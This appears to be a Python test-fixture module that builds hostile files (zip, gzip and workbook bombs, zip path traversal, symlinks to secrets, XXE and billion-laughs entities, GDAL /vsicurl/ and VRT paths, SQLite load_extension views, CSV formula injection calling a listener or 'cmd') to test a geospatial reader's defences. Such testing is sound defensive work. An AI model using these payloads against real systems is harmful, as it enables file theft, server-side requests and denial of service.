"""Which files would harm whoever opens them? Each is built here, from nothing.

Used by the tests beside it and by ``benchmarks/attacks/hostile_files.py``.
"""

from __future__ import annotations

import gzip
import io
import json
import os
import sqlite3
import struct
import zipfile
from typing import TYPE_CHECKING, NamedTuple

import geopandas as gpd
import pyarrow as pa
from pyarrow import parquet
from shapely.geometry import Point

if TYPE_CHECKING:
    from pathlib import Path

#: Stands in a file that no attack may bring to light.
CANARY = "CANARY-4c1d"
SHEET = "xl/worksheets/sheet1.xml"


class Target(NamedTuple):
    """What an attack aims at: a secret file beside its own, and an address that listens."""

    secret: Path
    address: str


def _vrt(target: Target) -> str:
    return f'<OGRVRTDataSource><OGRVRTLayer name="secret"><SrcDataSource>{target.secret}</SrcDataSource></OGRVRTLayer></OGRVRTDataSource>'


def _points() -> gpd.GeoDataFrame:
    return gpd.GeoDataFrame({"type": ["CSE"]}, geometry=[Point(375_000, 165_000)], crs=27700)


def _geopackage(folder: Path) -> Path:
    _points().to_file(folder / "a.gpkg", layer="records", engine="pyogrio")
    return folder / "a.gpkg"


def _with_view(folder: Path, view: str) -> Path:
    file = _geopackage(folder)
    with sqlite3.connect(file) as base:
        base.execute(f"CREATE VIEW bomb AS {view}")
        base.execute(
            "INSERT INTO gpkg_contents (table_name, data_type, identifier, srs_id) VALUES ('bomb', 'attributes', 'bomb', 0)"
        )
        base.execute("DROP TRIGGER IF EXISTS rtree_records_geom_insert")
        base.execute("DELETE FROM gpkg_contents WHERE table_name = 'records'")
        base.execute("DELETE FROM gpkg_geometry_columns")
        base.execute("DROP TABLE records")
    base.close()
    return file


def _zip(folder: Path, parts: dict[str, bytes], name: str = "a.zip") -> Path:
    with zipfile.ZipFile(folder / name, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as archive:
        for part, content in parts.items():
            archive.writestr(part, content)
    return folder / name


def _shapefile_parts(folder: Path) -> dict[str, bytes]:
    _points().to_file(folder / "inner.shp", engine="pyogrio")
    parts = {p.suffix: p.read_bytes() for p in folder.glob("inner.*")}
    for p in folder.glob("inner.*"):
        p.unlink()
    return parts


def _workbook(folder: Path, *, changed: dict[str, bytes] | None = None) -> Path:
    import openpyxl

    book = openpyxl.Workbook()
    for row in (["id", "type", "easting", "northing"], ["1", "CSE", 375_000, 165_000]):
        book.active.append(row)
    held = io.BytesIO()
    book.save(held)
    with zipfile.ZipFile(held) as archive:
        parts = {n: archive.read(n) for n in archive.namelist()}
    return _zip(folder, parts | (changed or {}), "a.xlsx")


def _sheet(rows: str, prolog: str = "") -> bytes:
    space = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    return f'<?xml version="1.0"?>{prolog}<worksheet xmlns="{space}"><sheetData>{rows}</sheetData></worksheet>'.encode()


def _text(folder: Path, content: str | bytes, name: str) -> Path:
    file = folder / name
    file.write_bytes(content if isinstance(content, bytes) else content.encode())
    return file


def _feature(geometry: str, more: str = "") -> str:
    return f'{{"type":"FeatureCollection"{more},"features":[{{"type":"Feature","properties":{{"type":"CSE"}},"geometry":{geometry}}}]}}'


_HERE = '{"type":"Point","coordinates":[-2.36,51.38]}'


def _link(target: Target, kind: str) -> str:
    goal = f"http://{target.address}/crs" if kind == "link" else str(target.secret)
    crs = {"type": "link", "properties": {"href": goal, "type": "ogcwkt"}}
    return _feature(_HERE, f',"crs":{json.dumps(crs)}')


def _wkt(target: Target) -> bytes:
    """A system whose text names a grid of corrections at an address."""
    return (
        f'BOUNDCRS[SOURCECRS[GEOGCRS["a",DATUM["b",ELLIPSOID["c",6378137,298.257]],CS[ellipsoidal,2],AXIS["lat",north],AXIS["lon",east],ANGLEUNIT["degree",0.0174532925199433]]],TARGETCRS[GEOGCRS["WGS 84",DATUM["World Geodetic System 1984",ELLIPSOID["WGS 84",6378137,298.257223563]],CS[ellipsoidal,2],AXIS["lat",north],AXIS["lon",east],ANGLEUNIT["degree",0.0174532925199433],ID["EPSG",4326]]],ABRIDGEDTRANSFORMATION["d",METHOD["NTv2",ID["EPSG",9615]],PARAMETERFILE["Latitude and longitude difference file","http://{target.address}/grid.gsb"]]]'
    ).encode()


def _tied(folder: Path, target: Target) -> Path:
    (folder / "a.csv").symlink_to(target.secret)
    return folder / "a.csv"


def _tied_part(folder: Path, target: Target) -> Path:
    for ending, content in _shapefile_parts(folder).items():
        (folder / f"a{ending}").write_bytes(content)
    (folder / "a.dbf").unlink()
    (folder / "a.dbf").symlink_to(target.secret)
    return folder / "a.shp"


def _tied_inside(folder: Path, target: Target) -> Path:
    parts = _shapefile_parts(folder)
    with zipfile.ZipFile(folder / "a.zip", "w") as archive:
        for ending, content in parts.items():
            if ending != ".dbf":
                archive.writestr(f"a{ending}", content)
        tie = zipfile.ZipInfo("a.dbf")
        tie.external_attr = 0o120777 << 16
        archive.writestr(tie, str(target.secret))
    return folder / "a.zip"


def _fifo(folder: Path, _: Target) -> Path:
    os.mkfifo(folder / "a.csv")
    return folder / "a.csv"


def _climbing(folder: Path, _: Target) -> Path:
    parts = _shapefile_parts(folder)
    return _zip(folder, {f"../../../climbed{e}": c for e, c in parts.items()})


def _shapefile_bomb(folder: Path, _: Target) -> Path:
    parts = _shapefile_parts(folder)
    return _zip(folder, {f"a{e}": c for e, c in (parts | {".dbf": bytes(400 << 20)}).items()})


def _many_parts(folder: Path, _: Target) -> Path:
    with zipfile.ZipFile(folder / "a.zip", "w") as archive:
        for n in range(28_000):
            archive.writestr(f"part number {n:0120d} of many, with a long name", b"")
    return folder / "a.zip"


def _lying_zip(folder: Path, _: Target) -> Path:
    """Say that a part is small which is not."""
    file = _shapefile_bomb(folder, _)
    content = file.read_bytes()
    big, small = struct.pack("<L", 400 << 20), struct.pack("<L", 4000)
    file.write_bytes(content.replace(big, small))
    return file


def _shape_count(folder: Path, _: Target) -> Path:
    """A Shapefile whose header promises a hundred million records."""
    parts = _shapefile_parts(folder)
    dbf = bytearray(parts[".dbf"])
    dbf[4:8] = struct.pack("<L", 100_000_000)
    shx = bytearray(parts[".shx"])
    shx[24:28] = struct.pack(">L", 0x7FFFFFFF)
    for ending, content in (parts | {".dbf": bytes(dbf), ".shx": bytes(shx)}).items():
        (folder / f"a{ending}").write_bytes(content)
    return folder / "a.shp"


def _huge_rows(folder: Path, _: Target) -> Path:
    """A Parquet of a few kilobytes that holds fifty million equal rows."""
    one = pa.table({"type": pa.array(["CSE"] * 1_000_000).dictionary_encode()})
    with parquet.ParquetWriter(folder / "a.parquet", one.schema, compression="zstd") as writer:
        for _n in range(50):
            writer.write_table(one, row_group_size=1_000_000)
    return folder / "a.parquet"


def _huge_values(folder: Path, _: Target) -> Path:
    """A Parquet of a few kilobytes that holds half a gigabyte of text."""
    one = pa.table({"type": pa.array(["x" * 500_000] * 1_000)})
    parquet.write_table(one, folder / "a.parquet", compression="zstd", use_dictionary=True)
    return folder / "a.parquet"


def _bound_parquet(folder: Path, target: Target) -> Path:
    """A GeoParquet whose system names a grid of corrections at an address."""
    _points().to_parquet(folder / "a.parquet")
    table = parquet.read_table(folder / "a.parquet")
    known = dict(table.schema.metadata)
    geo = json.loads(known[b"geo"])
    geo["columns"]["geometry"]["crs"] = {"type": "BoundCRS", "grid": f"http://{target.address}/g"}
    table = table.replace_schema_metadata(known | {b"geo": json.dumps(geo).encode()})
    parquet.write_table(table, folder / "a.parquet")
    return folder / "a.parquet"


def _lying_footer(folder: Path, _: Target) -> Path:
    parquet.write_table(pa.table({"type": ["CSE"]}), folder / "a.parquet")
    content = bytearray((folder / "a.parquet").read_bytes())
    content[-8:-4] = struct.pack("<L", 0xFFFFFF0)
    return _text(folder, bytes(content), "a.parquet")


def _mangled(file: Path, step: int) -> Path:
    content = bytearray(file.read_bytes())
    for at in range(100, len(content) - 8, step):
        content[at] ^= 0xFF
    file.write_bytes(bytes(content))
    return file


def _mangled_parquet(folder: Path, _: Target) -> Path:
    _points().to_parquet(folder / "a.parquet")
    return _mangled(folder / "a.parquet", 97)


def _malicious_schema(folder: Path, _: Target) -> Path:
    file = _geopackage(folder)
    with sqlite3.connect(file) as base:
        base.execute("PRAGMA writable_schema = ON")
        base.execute(
            "UPDATE sqlite_master SET sql = 'CREATE TABLE records (fid, type AS (load_extension(''/tmp/evil'')), geom)' WHERE name = 'records'"
        )
    base.close()
    return file


def _recursive(body: str) -> str:
    return f"WITH RECURSIVE n(fid) AS (SELECT 1 UNION ALL SELECT fid + 1 FROM n LIMIT 100000000) {body}"


_LAUGHS = (
    '<!DOCTYPE a [<!ENTITY l0 "lol">'
    + "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    + "]>"
)


def _outside(target: Target) -> str:
    return f'<!DOCTYPE a [<!ENTITY x SYSTEM "file://{target.secret}"><!ENTITY y SYSTEM "http://{target.address}/x">]>'


_CELL = '<row r="1"><c r="A1" t="inlineStr"><is><t>{0}</t></is></c></row><row r="2"><c r="A2" t="inlineStr"><is><t>{0}</t></is></c></row>'

#: What the attack does -> how the file is made, and what is said (or that it is read).
ATTACKS = {
    "VRT named .geojson": (lambda f, t: _text(f, _vrt(t), "a.geojson"), "GDAL virtual dataset"),
    "VRT named .gpkg": (lambda f, t: _text(f, _vrt(t), "a.gpkg"), "GDAL virtual dataset"),
    "VRT named .csv": (lambda f, t: _text(f, _vrt(t), "a.csv"), "GDAL virtual dataset"),
    "VRT as a Shapefile in a zip": (lambda f, t: _zip(f, {"a.shp": _vrt(t).encode()}), "no Shapefile"),
    "VRT beside a Shapefile in a zip": (lambda f, t: _zip(f, {f"a{e}": c for e, c in _shapefile_parts(f).items()} | {"a.vrt": _vrt(t).encode()}), "READ"),
    "WFS address in XML": (lambda f, t: _text(f, f"<OGRWFSDataSource><URL>http://{t.address}/wfs</URL></OGRWFSDataSource>", "a.geojson"), "XML"),
    "crs that links to an address": (lambda f, t: _text(f, _link(t, "link"), "a.geojson"), "is not followed"),
    "crs that links to a file": (lambda f, t: _text(f, _link(t, "file"), "a.geojson"), "is not followed"),
    "crs named by an address": (lambda f, t: _text(f, _feature(_HERE, f',"crs":{{"type":"name","properties":{{"name":"http://{t.address}/crs"}}}}'), "a.geojson"), "is not followed"),
    "Shapefile whose .prj names a grid": (lambda f, t: _zip(f, {f"a{e}": c for e, c in (_shapefile_parts(f) | {".prj": _wkt(t)}).items()}), "not followed|READ"),
    "path /vsicurl/": (lambda _, t: f"/vsicurl/http://{t.address}/a.csv", "never opens a network address"),
    "path /vsizip//vsicurl/": (lambda _, t: f"/vsizip//vsicurl/http://{t.address}/a.zip", "never opens a network address"),
    "path /vsistdin/": (lambda *_: "/vsistdin/", "never opens a network address"),
    "path \\vsimem": (lambda *_: "\\vsimem\\a.csv", "never opens a network address"),
    "path http": (lambda _, t: f"http://{t.address}/a.csv", "never opens a network address"),
    "path PG:": (lambda _, t: f"PG://{t.address}/x", "never opens a network address"),
    "path \\\\server\\share": (lambda *_: "\\\\127.0.0.1\\share\\a.csv", "never opens a network address"),
    "link to another folder": (_tied, "is a link to a file in another folder"),
    "link as a part of a Shapefile": (_tied_part, "is a link to a file in another folder"),
    "link as a part in a zip": (_tied_inside, "cannot be read|READ"),
    "pipe named .csv": (_fifo, "a pipe or a device"),
    "device": (lambda *_: "/dev/zero", "a pipe or a device"),
    "climbing names in a zip": (_climbing, "READ"),
    "Shapefile bomb": (_shapefile_bomb, "packed more tightly"),
    "Shapefile bomb that lies": (_lying_zip, "broken zip|cannot be read|READ"),
    "zip of thirty thousand parts": (_many_parts, "must list its parts"),
    "Shapefile that promises 100 million rows": (_shape_count, "damaged|takes longer|READ"),
    "gzip bomb": (lambda f, _: _text(f, gzip.compress(b"id\n" + bytes(200 << 20), 1), "a.csv.gz"), "at most 160 MB when unpacked"),
    "workbook bomb": (lambda f, _: _workbook(f, changed={SHEET: _sheet(" " * (330 << 20))}), "at most 320 MB when unpacked"),
    "workbook of shared text without end": (lambda f, _: _workbook(f, changed={"xl/sharedStrings.xml": b'<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">' + b"<si><t>0123</t></si>" * 12_000_000 + b"</sst>"}), "memory|longer|READ"),
    "workbook with a row at a billion": (lambda f, _: _workbook(f, changed={SHEET: _sheet('<row r="1000000000"><c r="A1000000000"><v>1</v></c></row>')}), "rows; it has more"),
    "workbook with cells far right": (lambda f, _: _workbook(f, changed={SHEET: _sheet("".join(f'<row r="{n}"><c r="ZZZ{n}"><v>1</v></c></row>' for n in range(1, 5000)))}), "columns"),
    "workbook: XXE": (lambda f, t: _workbook(f, changed={SHEET: _sheet(_CELL.format("&x;&y;"), _outside(t))}), "declares a document type"),
    "workbook: XXE in the shared strings": (lambda f, t: _workbook(f, changed={"xl/sharedStrings.xml": f"{_outside(t)}<sst><si><t>&x;&y;</t></si></sst>".encode()}), "declares a document type"),
    "workbook: XXE in UTF-16": (lambda f, t: _workbook(f, changed={SHEET: f'<?xml version="1.0" encoding="utf-16"?>{_outside(t)}<worksheet/>'.encode("utf-16")}), "declares a document type"),
    "workbook: a billion laughs": (lambda f, _: _workbook(f, changed={SHEET: _sheet(_CELL.format("&l9;"), _LAUGHS)}), "declares a document type"),
    "workbook that links to another": (lambda f, t: _workbook(f, changed={"xl/externalLinks/externalLink1.xml": b"<externalLink/>", "xl/externalLinks/_rels/externalLink1.xml.rels": f'<Relationships><Relationship Id="1" Type="x" Target="http://{t.address}/a.xlsx" TargetMode="External"/></Relationships>'.encode()}), "READ"),
    "KML with XXE": (lambda f, t: _text(f, f"{_outside(t)}<kml>&x;&y;</kml>", "a.kml"), "KML"),
    "JSON 200,000 deep": (lambda f, _: _text(f, '{"type":"FeatureCollection","features":[' + "[" * 200_000, "a.geojson"), "nested too deeply"),
    "JSON 200,000 deep in coordinates": (lambda f, _: _text(f, _feature('{"type":"Point","coordinates":' + "[" * 200_000 + "]" * 200_000 + "}"), "a.geojson"), "nested too deeply"),
    "collections in collections": (lambda f, _: _text(f, _feature('{"type":"GeometryCollection","geometries":[' * 90 + _HERE + "]}" * 90), "a.geojson"), "READ"),
    "a number of 5,000 digits": (lambda f, _: _text(f, _feature(_HERE).replace('"CSE"', "9" * 5000), "a.geojson"), "cannot be read as GeoJSON"),
    "properties without end": (lambda f, _: _text(f, '{"type":"FeatureCollection","features":[' + ",".join(f'{{"type":"Feature","properties":{{"p{n}":1}},"geometry":null}}' for n in range(5000)) + "]}", "a.geojson"), "properties"),
    "coordinates 1e308": (lambda f, _: _text(f, _feature('{"type":"Point","coordinates":[1e308,-1e308]}'), "a.geojson"), "READ"),
    "coordinates 1e999 and NaN": (lambda f, _: _text(f, _feature('{"type":"Point","coordinates":[1e999,NaN]}'), "a.geojson"), "READ"),
    "coordinates that are objects": (lambda f, _: _text(f, _feature('{"type":"Polygon","coordinates":[[{"a":1},[1,2]]]}'), "a.geojson"), "READ"),
    "text that is no Unicode": (lambda f, _: _text(f, _feature(_HERE).replace("CSE", "\\ud800"), "a.geojson"), "READ"),
    "view of 100 million rows": (lambda f, _: _with_view(f, _recursive("SELECT fid, 'CSE' AS type FROM n")), "rows|longer"),
    "view that never gives a row": (lambda f, _: _with_view(f, _recursive("SELECT fid, 'CSE' AS type FROM n WHERE fid < 0")), "longer"),
    "view of a gigabyte": (lambda f, _: _with_view(f, "SELECT 1 AS fid, hex(zeroblob(600000000)) AS type"), "memory|more than|cannot be read"),
    "view of itself": (lambda f, _: _with_view(f, "SELECT * FROM bomb"), "cannot be read"),
    "view that loads a library": (lambda f, _: _with_view(f, "SELECT 1 AS fid, load_extension('/tmp/evil.so') AS type"), "cannot be read|READ"),
    "view that reads a file": (lambda f, t: _with_view(f, f"SELECT 1 AS fid, gdal_get_pixel_value('{t.secret}', 1, 'pixel', 0, 0) AS type"), "cannot be read|READ"),
    "view that asks an address": (lambda f, t: _with_view(f, f"SELECT 1 AS fid, ogr_geocode('http://{t.address}/') AS type"), "cannot be read|READ"),
    "schema that calls a function": (_malicious_schema, "cannot be read|READ"),
    "GeoPackage with bytes turned": (lambda f, _: _mangled(_geopackage(f), 211), ""),
    "Parquet of 50 million rows": (_huge_rows, "at most 2,000,000 are read"),
    "Parquet of half a gigabyte in 20 kB": (_huge_values, "memory|more than"),
    "GeoParquet whose system names a grid": (_bound_parquet, "is not followed"),
    "Parquet with a lying footer": (_lying_footer, "cannot be read as Parquet"),
    "Parquet with bytes turned": (_mangled_parquet, ""),
    "CSV with one field of 30 MB": (lambda f, _: _text(f, 'id,type\n1,"' + "x" * (30 << 20) + '"\n', "a.csv"), "READ|field of more than"),
    "CSV with one line of 30 MB": (lambda f, _: _text(f, "id,type\n" + "1," * (15 << 20) + "\n", "a.csv"), "READ"),
    "CSV with 100,000 columns": (lambda f, _: _text(f, ",".join(map(str, range(100_000))) + "\n1\n", "a.csv"), "at most 2,000 columns"),
    "CSV with a header of 2 MB": (lambda f, _: _text(f, '"' + "x" * (2 << 20) + '",b\n1,2\n', "a.csv"), ""),
    "CSV of 20 million lines": (lambda f, _: _text(f, b"id,type\n" + b",\n" * 20_000_000, "a.csv"), "at most 2,000,000 rows"),
    "CSV of 150 MB with one wide letter": (lambda f, _: _text(f, "id,type\n1,\U0001f600\n".encode() + b"12345678901234567890123456789012345678901234567890,1234567890123456789\n" * 2_000_000, "a.csv"), "at most 2,000,000 rows"),
    "CSV of nothing but quotation marks": (lambda f, _: _text(f, b"a,b\n" + b'"' * 3_000_001, "a.csv"), ""),
    "CSV of ragged rows": (lambda f, _: _text(f, b"a,b,c\n" + b"1,2\n1,2,3,4\n" * 200_000, "a.csv"), "READ"),
    "CSV of formulas": (lambda f, t: _text(f, f"id,type\n1,\"=WEBSERVICE('http://{t.address}/')\"\n2,=cmd|' /C calc'!A0\n", "a.csv"), "READ"),
}  # fmt: skip
